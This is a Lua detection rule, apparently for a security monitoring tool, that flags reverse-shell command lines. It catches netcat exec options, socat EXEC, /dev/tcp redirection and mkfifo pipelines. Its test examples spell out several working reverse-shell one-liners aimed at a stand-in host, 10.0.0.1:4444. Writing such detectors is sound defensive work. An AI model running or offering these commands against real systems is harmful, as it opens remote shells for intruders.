local lists = require "moonwatch.lists"
local match = require "moonwatch.match"

--- A shell's own way to a socket; the first alone is also how scripts wait for a port.
local sockets = { "/dev/tcp/", "/dev/udp/" }
local ties = { " -i", ">&", "<&", "| sh", "|sh", "| bash", "|bash", "sh</dev/", "sh </dev/", "sh < /dev/" }
local fifos = { "mkfifo", "mknod" }
local clients = { "nc ", "ncat ", "netcat ", "s_client", "telnet " }

local none = {}

--- An option that has netcat start a program: -e, -c, --exec, --sh-exec, and -e in a cluster.
local function starts_program(process)
  for i, argument in ipairs(process.argv or none) do
    if i > 1 and match.starts(argument, "-") and not match.starts(argument, "--")
      and (match.ends(argument, "e") or match.ends(argument, "c")) then
      return true
    end
  end
  return match.has_arg(process, "--exec", "--sh-exec", "--lua-exec")
end

return {
  id = "reverse_shell_cmdline",
  summary = "Command line of a reverse shell",
  why = "These ways to tie a shell to a socket have hardly another use.",
  on = { "process.exec" },
  severity = "high",
  attack = { "T1059.004", "T1095" },
  message = "{process.parent.name} started a reverse shell: {process.cmdline}",
  where = {
    { names = lists.netcats },
    { names = "socat", cmdline = { "EXEC:", "SYSTEM:", "exec:", "system:" } },
    { names = lists.shells, cmdline = { sockets, fifos } },
  },
  match = function(event)
    local process = event.process
    local cmdline = process.cmdline
    if match.named(process, lists.netcats) then
      return starts_program(process)
    elseif process.name == "socat" then
      return true
    end
    return (match.contains_any(cmdline, sockets) and match.contains_any(cmdline, ties))
      or (match.contains_any(cmdline, fifos) and match.contains_any(cmdline, clients))
  end,
  examples = {
    { expect = true, event = { process = { name = "bash",
      argv = { "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" } } } },
    { expect = true, event = { process =
      { name = "nc", argv = { "nc", "-e", "/bin/sh", "10.0.0.1", "4444" } } } },
    { expect = true, event = { process =
      { name = "nc.traditional", argv = { "nc", "-lvnpe", "4444", "/bin/sh" } } } },
    { expect = true, event = { process =
      { name = "socat", argv = { "socat", "TCP:10.0.0.1:4444", "EXEC:/bin/sh" } } } },
    { expect = true, event = { process = { name = "sh",
      argv = { "sh", "-c", "mkfifo /tmp/f; nc 10.0.0.1 4444 </tmp/f | sh >/tmp/f" } } } },
    { note = "waiting for a port", expect = false, event = { process =
      { name = "bash", argv = { "bash", "-c", "</dev/tcp/db/5432" } } } },
    { expect = false, event = { process =
      { name = "bash", argv = { "bash", "-c", "echo > /dev/tcp/db/5432" } } } },
    { expect = false, event = { process = { name = "nc", argv = { "nc", "-z", "db", "5432" } } } },
    { expect = false, event = { process = { name = "grep", argv = { "grep", ">&/dev/tcp/", "x" } } } },
    { expect = false, event = { process = { name = "socat", argv = { "socat", "-", "UNIX:/run/x" } } } },
    { expect = true, event = { process = { name = "nc", argv = { "nc", "-lp", "4444", "-c", "sh" } } } },
    { expect = true, event = { process = { name = "ncat", argv = { "ncat", "--exec", "/bin/sh", "x" } } } },
    { note = "its arguments are not known", expect = false, event = { process = { name = "nc" } } },
  },
}
